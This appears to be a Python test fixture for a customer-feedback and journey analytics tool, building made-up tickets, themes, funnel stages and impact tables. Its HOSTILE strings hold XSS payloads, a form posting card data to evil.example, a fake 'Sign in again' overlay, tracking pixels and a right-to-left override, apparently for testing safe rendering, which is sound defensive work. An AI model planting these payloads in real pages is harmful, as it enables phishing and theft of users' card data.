"""A small run made by hand: six themes, four stages, sixty messages, hostile ones among them.

The numbers are made up, but they agree with each other where a page adds them up.
"""

from __future__ import annotations

import itertools
from typing import TYPE_CHECKING, Any

import pandas as pd

from friction.config import load_settings
from friction.contracts import ANY, CONVERTED, DROPPED, START, build_table
from friction.store.decisions import DecisionLog
from friction.store.hashes import hash_decisions, hash_settings
from friction.store.objects import Objects
from friction.store.runs import publish_run

if TYPE_CHECKING:
    from collections.abc import Sequence
    from pathlib import Path

    from friction.store.runs import Run

STAGES = ("landing", "basket", "payment", "delivery")
"""In journey order, which is not the order of the alphabet."""

HOSTILE = (
    '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=1">',
    '<form action="https://evil.example/steal"><input name=card></form>',
    '<div style="position:fixed;inset:0;background:url(https://evil.example/a.png)">Sign in again</div>',
    "![beacon](https://evil.example/pixel.png) [click](https://evil.example/login) # Not a heading",
    '<iframe src="https://evil.example"></iframe><svg onload="window.__pwned=1"></svg>',
    ":material/home: :red[alarm] $$x^2$$ <style>*{display:none}</style> & \u202eright to left",
)
HOSTILE_NAME = '<img src="https://evil.example/x.png" onerror="window.__pwned=1"> ![b](https://evil.example/p.png)'

_THEMES = (
    ("th-card", "card refused", True, ("card", "refuse", "bank"), "My card is refused at the last step, twice now."),
    ("th-form", "address form loses what I typed", True, ("address", "form"), "The address form forgets what I typed."),
    ("th-evil", HOSTILE_NAME, True, ("script", "form", "img"), ""),
    ("th-slow", "search is slow", True, ("search", "slow", "wait"), "The search is slow and I wait for ages."),
    ("th-kind", "friendly support", False, ("friendly", "support", "thank"), "Thank you, the support was friendly."),
    ("th-late", "parcel came late", True, ("parcel", "late"), "My parcel came late again, not good."),
)
_INPUT = {"kind": "documents", "source": "tickets", "file": "tickets.csv", "size_bytes": 4321, "sha256": "ab" * 32}
_WEEKS = tuple(f"2026-W{week}" for week in range(14, 22))
_SETTINGS = """
[project]
name = "Corner shop"
timezone = "Europe/Berlin"

[objective]
name = "more baskets become orders"
target = 0.25
by = "2026-12-31"
owner = "Growth"
"""
_DOCUMENTS = """
[[documents]]
name = "tickets"
path = "tickets.csv"
source = "ticket"
columns = { text = "text" }
"""
_EVENTS = """
[[events]]
name = "clicks"
path = "clicks.csv"
columns = { happened_at = "at", name = "event" }

[journey]
converts = ["done"]
drop_after_days = 14
""" + "".join(f'\n[[journey.stages]]\nname = "{stage}"\nevents = ["{stage}"]\n' for stage in STAGES)


def write_workspace(folder: Path, *, documents: bool = True, events: bool = True, run: bool = True) -> Path:
    """Write a workspace with settings and, where asked for, one finished run with either half or both."""
    folder.mkdir(parents=True, exist_ok=True)
    settings = _SETTINGS + (_DOCUMENTS if documents else "") + (_EVENTS if events else "")
    (folder / "friction.toml").write_text(settings, encoding="utf-8")
    if run:
        write_run(folder, build_tables(documents=documents, events=events))
    return folder


def write_run(workspace: Path, tables: dict[str, pd.DataFrame], week: str | None = "2026-W21") -> Run:
    """Publish the tables as the next run of the workspace."""
    objects = Objects(workspace / "runs" / "objects")
    outputs = {name: objects.save_table(name, frame) for name, frame in tables.items()}
    number = len(list((workspace / "runs").glob("0*"))) + 1
    log = DecisionLog(workspace)
    decisions = log.read()
    log.close()
    settings = load_settings(workspace)
    manifest: dict[str, Any] = {
        "number": number,
        "went_in": {
            "program": "0.1.0",
            "code": "c0de" * 16,
            "settings": hash_settings(settings),
            "inputs": [
                {
                    "kind": "documents",
                    "source": "tickets",
                    "file": "tickets.csv",
                    "size_bytes": 4321,
                    "sha256": "ab" * 32,
                }
            ],
            "as_of": None,
            "key": "0123456789ab",
            "decisions": hash_decisions(decisions),
            "seeds": {"topics": 0, "impact": 0},
        },
        "previous": None,
        "machine": {"processor": "a processor", "system": "Linux x86_64", "blas": "openblas", "python": "3.11"},
        "model": "all-MiniLM-L6-v2@53aa51172d142c89",
        "week": week,
        "data_end": "2026-05-25T08:00:00+00:00",
        "left_out": {"text: documents without words": 1, "topics: segments in no topic: too_short": 2},
        "notes": ["Stage delivery: 3 events have a name that no stage holds."],
    }
    return publish_run(workspace, objects, outputs, manifest, {"seconds": {}})


def build_tables(*, documents: bool = True, events: bool = True) -> dict[str, pd.DataFrame]:
    """Return every table of the run: the half of the messages, the half of the events, or both."""
    tables = _build_texts() | _build_themes() | {"imports": _build_imports(), "quarantine": _build_quarantine()}
    halves = {
        "documents": tables | _build_meeting(tables["documents"], tables["segments"], placed=events),
        "events": _build_journeys(),
    }
    shared = {name: tables[name] for name in ("imports", "quarantine")}
    return shared | (halves["documents"] if documents else {}) | (halves["events"] if events else {})


PROPOSED = [("new", None, None, "They may be one.")] + [("merge", "th-card", "th-form", "Most of both is one.")] * 6


def _rows(name: str, rows: Sequence[dict[str, Any]], **same: object) -> pd.DataFrame:
    """Build table ``name`` from rows; columns that ``same`` names have one value throughout."""
    return build_table(name, pd.DataFrame([{**same, **row} for row in rows]))


def _build_texts() -> dict[str, pd.DataFrame]:
    """Ten messages to each theme over eight weeks; the theme of hostile words gets the hostile texts."""
    documents, segments, cues, placed = [], [], [], []
    first = pd.Timestamp("2026-03-30 09:00", tz="UTC")
    for place, (theme_id, _, is_friction, terms, sentence) in enumerate(_THEMES):
        for number in range(10):
            doc_id = f"d-{place}{number}"
            said = sentence or HOSTILE[number % len(HOSTILE)]
            text = f"Hello there!\n{said} I wrote before, message {number} & <b>still</b> nothing."
            start = text.index(said)
            documents.append({
                "doc_id": doc_id, "source": ("ticket", "chat", "review")[number % 3], "text": text,
                "person_id": None if number == 9 else f"p-{(place * 7 + number) % 40:02d}",
                "written_at": first + pd.Timedelta(days=number * 5 + place, hours=place),
                "rating": 0.25 if number % 3 == 2 else None, "language": "en",
                "url": f"https://desk.example/{doc_id}" if number == 0 else None,
            })  # fmt: skip
            segment = f"{doc_id}/1"
            segments.append({
                "segment_id": segment, "doc_id": doc_id, "start": start, "end": start + len(said), "text": said,
                "lemmas": list(terms), "phrases": [], "friction": 0.8 if is_friction else 0.1, "severity": 0.5,
                "kind": "problem" if is_friction else "praise", "kind_probability": 0.8,
                "from_base": -0.063706 if is_friction else -1.447225,  # with the cue and the meaning: logit(friction)
            })  # fmt: skip
            word = terms[1] if terms[1] in said else said[:6]
            at = text.index(word, start)
            cues.append({
                "segment_id": segment, "start": at, "end": at + len(word),
                "cue": "trouble" if is_friction else "praise",
                "weight": 1.2 if is_friction else -1.0,
            })  # fmt: skip
            topic = None if number == 8 and place == 5 else f"k-{theme_id}"
            placed.append({
                "segment_id": segment, "topic_id": topic, "theme_id": theme_id if topic else None,
                "strength": 0.9 - number / 20 if topic else 0.0, "reason": "placed" if topic else "novel",
            })  # fmt: skip
    return {
        "documents": _rows(
            "documents", documents, author="customer", thread_id=None, stage_hint=None, n_masked=0, left_out=None
        ),
        "segments": _rows("segments", segments, turn=None, effort=None, from_meaning=0.25, from_rating=0.0),
        "cues": _rows("cues", cues, minutes=None, effort=None),
        "segment_topics": _rows("segment_topics", placed),
    }


def _build_themes() -> dict[str, pd.DataFrame]:
    topics, themes, weeks = [], [], []
    for place, (theme_id, name, is_friction, terms, _) in enumerate(_THEMES):
        n = 9 if theme_id == "th-late" else 10
        counts = {"n_segments": n, "n_documents": n, "n_persons": 9, "friction": 0.8 if is_friction else 0.1}
        kept = {"theme_id": theme_id, "terms": list(terms), "exemplar_ids": [f"d-{place}0/1", f"d-{place}1/1"]}
        topics.append({**counts, **kept, "topic_id": f"k-{theme_id}", "label": name})
        parent = "th-card" if theme_id == "th-form" else None
        themes.append({**counts, **kept, "name": name, "is_friction": is_friction, "parent_id": parent,
                       "kind": "problem" if is_friction else "praise"})  # fmt: skip
        for number, week in enumerate(_WEEKS):
            early = number < 3
            weeks.append({
                "theme_id": theme_id, "week": week, "n_documents": 1 + (number + place) % 3, "n_persons": 1,
                "n_writers": 1 + (number + place) % 3,
                "expected_low": None if early else 0.0, "expected_high": None if early else 4.0,
                "change": "too_early" if early else ("rising" if number == 7 and place == 1 else "steady"),
            })  # fmt: skip
    return {
        "topics": _rows("topics", topics, stability=0.9, parent_id=None),
        "themes": _rows(
            "themes", themes, definition=None, status="new", owner=None, approved=False,
            from_decision=False, severity=0.5,
        ),
        "theme_weeks": _rows("theme_weeks", weeks),
        "proposals": _rows("proposals", [
            {"proposal_id": f"pr-{number}", "kind": kind, "theme_id": theme_id, "other_theme_id": other,
             "n_segments": 9 - number, "exemplar_ids": [f"d-{number}0/1"], "why": why}
            for number, (kind, theme_id, other, why) in enumerate(PROPOSED)
        ], topic_id=None),
        "lineage": _rows("lineage", [
            {"topic_id": f"k-{theme[0]}", "previous_theme_id": None} for theme in _THEMES
        ], relation="new", overlap=0.0),
    }  # fmt: skip


def _build_meeting(documents: pd.DataFrame, segments: pd.DataFrame, *, placed: bool) -> dict[str, pd.DataFrame]:
    """Place each message with a person: three parts in four at its theme's stage, the rest nowhere."""
    rows = []
    for doc_id, person in zip(documents["doc_id"], documents["person_id"], strict=True):
        stage = STAGES[(2, 1, 2, 0, 3, 3)[int(doc_id[2])]]
        known = placed and not pd.isna(person)
        if known:
            rows.append({
                "doc_id": doc_id, "journey_id": f"j-{person}", "step": STAGES.index(stage) + 1, "stage": stage,
                "probability": 0.75, "probability_time": 0.75, "best": True, "how": "time", "gap_minutes": 95.0,
            })  # fmt: skip
        rows.append({
            "doc_id": doc_id, "journey_id": None, "step": None, "stage": None, "best": not known, "how": "unplaced",
            "probability": 0.25 if known else 1.0, "probability_time": 0.25 if known else 1.0, "gap_minutes": None,
        })  # fmt: skip
    alignments = _rows("alignments", rows, after_outcome=False, experienced_at=None)
    of_segments = segments[["segment_id", "doc_id"]].merge(alignments, on="doc_id")
    of_segments = of_segments[["segment_id", "journey_id", "step", "stage", "probability", "probability_time"]]
    return {
        "alignments": alignments,
        "segment_alignments": build_table("segment_alignments", of_segments),
        "impact": _build_impact(placed=placed),
        "controls": _rows("controls", [
            {"theme_id": "th-card", "stage": stage, "control": control, "result": result}
            for stage, results in (("payment", ("passed", "passed", "untested")), (ANY, ("passed", "passed", "failed")))
            for control, result in zip(("shuffled", "placebo_outcome", "late_messages"), results, strict=True)
        ], n_with=24.2, difference=0.01, p=0.3),
        "message_rates": _rows("message_rates", [
            {"stage": stage, "position": place, "n_documents": 6.75, "n_visits": 100 - 20 * place, "per_1000": 80.0}
            for place, stage in enumerate(STAGES)
        ], per_1000_low=60.0, per_1000_high=110.0),
    }  # fmt: skip


def _build_impact(*, placed: bool) -> pd.DataFrame:
    none = dict.fromkeys((
        "difference", "difference_low", "difference_high", "difference_alone", "q", "rating_with", "rating_without",
        "rating_difference", "rating_low", "rating_high", "recovered_50", "recovered_low", "recovered_high", "rank",
        "adjusted_difference", "adjusted_low", "adjusted_high", "e_value", "e_value_limit", "adjusted_for",
        "landmark_difference", "sure", "top_three", "survives", "pooled", "pooled_with", "pooled_difference",
        "pooled_low", "pooled_high", "pooled_q",
    ))  # fmt: skip
    count = {"evidence": "count", "enough": False, "n_documents": 7.5, "n_persons": 7.0, "n_with": 6.5,
             "dropped_with": 2.1, "n_without": 93.5, "dropped_without": 20.4}  # fmt: skip
    enough = {
        "evidence": "association", "enough": True, "n_with": 24.2, "dropped_with": 9.3, "difference": 0.12,
        "difference_low": 0.04, "difference_high": 0.2, "q": 0.02, "recovered_50": 3.4, "recovered_low": 1.0,
        "recovered_high": 5.6, "difference_alone": 0.09, "survives": "yes", "top_three": 0.9,
    }  # fmt: skip
    wider = {"pooled": "all stages", "pooled_with": 31.0, "pooled_difference": 0.11, "pooled_low": 0.03,
             "pooled_high": 0.19, "pooled_q": 0.04}  # fmt: skip
    rows = [
        {**none, **count, **enough, "theme_id": "th-card", "stage": "payment", "friction": 0.8, "rank": 1},
        {**none, **count, **wider, "theme_id": "th-form", "stage": "basket", "friction": 0.8, "rank": 2},
        {**none, **count, "theme_id": "th-evil", "stage": "payment", "friction": 0.8, "rank": 3},
        {**none, **count, "theme_id": "th-slow", "stage": "landing", "friction": 0.8, "rank": 4},
        {**none, **count, "theme_id": "th-kind", "stage": "delivery", "friction": 0.1},
        {**none, **count, "theme_id": "th-late", "stage": "delivery", "friction": 0.8, "rank": 5},
        {**none, **count, **enough, "theme_id": "th-card", "stage": ANY, "friction": 0.8, "rank": 6, "survives": "no"},
    ]
    if not placed:
        nothing = dict.fromkeys(("n_with", "dropped_with", "n_without", "dropped_without"), 0.0)
        rated = {"rating_with": 0.31, "rating_without": 0.58, "rating_difference": -0.27, "rating_low": -0.35,
                 "rating_high": -0.19}  # fmt: skip
        rows = [
            {**none, **count, **nothing, **(rated if rank == 1 else {}), "theme_id": theme[0], "stage": ANY,
             "friction": 0.8 if theme[2] else 0.1, "rank": rank if theme[2] else None}
            for rank, theme in enumerate(_THEMES, start=1)
        ]  # fmt: skip
    return _rows("impact", rows)


def _build_journeys() -> dict[str, pd.DataFrame]:
    """Let a hundred persons walk the four stages; some stop at each, some are on their way when the data end."""
    visits, journeys, persons = [], [], []
    first = pd.Timestamp("2026-04-06 08:00", tz="UTC")
    for number in range(100):
        person, started = f"p-{number:02d}", first + pd.Timedelta(hours=11 * number)
        n_visits = (1, 2, 3, 4, 4)[number % 5]
        outcome = "converted" if number % 5 == 4 else ("open" if number % 10 == 3 else "dropped")
        ends = [started + pd.Timedelta(hours=3 * step) for step in range(n_visits + 1)]
        for step in range(1, n_visits + 1):
            last = step == n_visits
            status = "advanced" if not last else outcome
            visits.append({
                "journey_id": f"j-{person}", "step": step, "person_id": person, "stage": STAGES[step - 1],
                "entered_at": ends[step - 1], "last_event_at": ends[step - 1],
                "left_at": None if status == "open" else ends[step], "status": status,
                "to_stage": {"advanced": STAGES[step % len(STAGES)], "open": None}.get(status, status.upper()),
                "known_at": None if status == "open" else ends[step] + pd.Timedelta(days=14 * (status == "dropped")),
            })  # fmt: skip
        journeys.append({
            "journey_id": f"j-{person}", "person_id": person, "started_at": started, "outcome": outcome,
            "ended_at": None if outcome == "open" else ends[-1], "n_visits": n_visits, "path": list(STAGES[:n_visits]),
            "dropped_at": ends[-1] + pd.Timedelta(days=14) if outcome == "dropped" else None,
        })  # fmt: skip
        persons.append({"person_id": person, "first_seen_at": started})
    made = _rows("visits", visits, n_events=3)
    dropoff = [
        {
            "stage": stage, "position": place, "n_visits": (here := made[made["stage"] == stage]).shape[0],
            "n_persons": here["person_id"].nunique(), "n_dropped": int((here["status"] == "dropped").sum()),
            "n_open": int((here["status"] == "open").sum()), "rate": 0.2 + place / 20, "rate_low": 0.14 + place / 20,
            "rate_high": 0.27 + place / 20, "horizon_days": None if stage == "delivery" else 28.0,
        }
        for place, stage in enumerate(STAGES)
    ]  # fmt: skip
    dropoff[-1] |= {"rate": None, "rate_low": None, "rate_high": None}
    moves = [*itertools.pairwise((START, *STAGES, CONVERTED)), *((stage, DROPPED) for stage in STAGES)]
    return {
        "events": _rows("events", [
            {"event_id": f"e-{row.journey_id}-{row.step}", "person_id": row.person_id, "happened_at": row.entered_at,
             "name": row.stage} for row in made.itertuples()
        ], source="clicks", session_id=None, properties="{}", place=0),
        "persons": _rows("persons", persons, account_id=None, value=None, properties="{}"),
        "visits": made,
        "journeys": _rows("journeys", journeys, cohort_id=None),
        "dropoff": _rows(
            "dropoff", dropoff, removal_effect=0.5, removal_low=0.4, removal_high=0.6, converted_through=0.9,
            median_minutes=180.0, p90_minutes=1500.0,
        ),
        "transitions": _rows("transitions", [
            {"from_stage": start, "to_stage": end, "rate": 1.0 if start == START else {DROPPED: 0.25}.get(end, 0.75)}
            for start, end in moves
        ], n=20, rate_low=0.2, rate_high=1.0),
    }  # fmt: skip


def _build_imports() -> pd.DataFrame:
    seen = {"first_at": pd.Timestamp("2026-03-30", tz="UTC"), "last_at": pd.Timestamp("2026-05-25", tz="UTC")}
    return _rows("imports", [
        {"kind": "documents", "source": "tickets", "file": "tickets.csv", "n_read": 63, "n_kept": 60,
         "n_quarantined": 2, "n_duplicates": 1},
        {"kind": "events", "source": "clicks", "file": "clicks.csv", "n_read": 290, "n_kept": 290, "n_quarantined": 0,
         "n_duplicates": 0},
    ], n_versions=0, n_repeats=0, ties_by=None, **seen)  # fmt: skip


def _build_quarantine() -> pd.DataFrame:
    return _rows("quarantine", [
        {"row": 12, "column": "text", "reason": "neither text nor rating"},
        {"row": 40, "column": "created", "reason": "time cannot be read"},
    ], kind="documents", source="tickets", file="tickets.csv")  # fmt: skip
